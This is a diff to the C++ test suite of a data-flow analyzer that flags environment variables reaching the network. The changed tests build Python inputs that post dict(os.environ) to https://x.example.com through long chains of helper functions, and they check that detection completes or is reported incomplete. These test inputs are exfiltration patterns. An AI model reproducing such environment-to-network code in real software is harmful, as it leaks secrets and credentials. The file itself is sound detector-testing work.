@@ -16,7 +16,7 @@ namespace {
 std::vector<Marker> flows(Language language, const std::string& code, const std::string& path = "src/file") {
   auto tree = parse(language, code);
   REQUIRE(tree);
-  return data_flow_markers(*tree, language, path);
+  return follow_data_flow(*tree, language, path).markers;
 }
 
 std::string names(const std::vector<Marker>& markers) {
@@ -232,15 +232,26 @@ TEST_CASE("hostile nesting and long files end within the follower's bounds") {
   std::string deep = "x = " + std::string(20000, '(') + "os.environ" + std::string(20000, ')') + "\nrequests.post(u, json=x)\n";
   auto tree = parse(Language::python, deep);
   REQUIRE(tree);
-  CHECK_NOTHROW(data_flow_markers(*tree, Language::python, "deep.py"));
+  CHECK_NOTHROW(follow_data_flow(*tree, Language::python, "deep.py"));
+  // 4,000 helpers each handing the environment to the one before need 4,000 passes: the follower stops
+  // and says so, and the analyzer reports the file incomplete (the fail mode decides).
   std::string wide = "import os, requests\n";
   for (int i = 0; i < 4000; ++i)
     wide += "def f" + std::to_string(i) + "(a):\n    return f" + std::to_string(i + 1) + "(a)\n";
   wide += "def f4000(a):\n    return dict(os.environ)\n\nrequests.post('https://x.example.com', json=f0(1))\n";
   auto wide_tree = parse(Language::python, wide);
   REQUIRE(wide_tree);
-  // 4,000 hops need more passes than the follower makes: it stops rather than stalls, finding nothing.
-  CHECK_FALSE(has(data_flow_markers(*wide_tree, Language::python, "wide.py"), "environment_to_network"));
+  CHECK_FALSE(follow_data_flow(*wide_tree, Language::python, "wide.py").complete);
+  // Forty such hops settle.
+  std::string chain = "import os, requests\n";
+  for (int i = 0; i < 40; ++i)
+    chain += "def f" + std::to_string(i) + "(a):\n    return f" + std::to_string(i + 1) + "(a)\n";
+  chain += "def f40(a):\n    return dict(os.environ)\n\nrequests.post('https://x.example.com', json=f0(1))\n";
+  auto chain_tree = parse(Language::python, chain);
+  REQUIRE(chain_tree);
+  auto settled = follow_data_flow(*chain_tree, Language::python, "chain.py");
+  CHECK(settled.complete);
+  CHECK(has(settled.markers, "environment_to_network"));
 }
 
 TEST_CASE("a flow followed from source to sink replaces the whole-file reading of the same kind") {
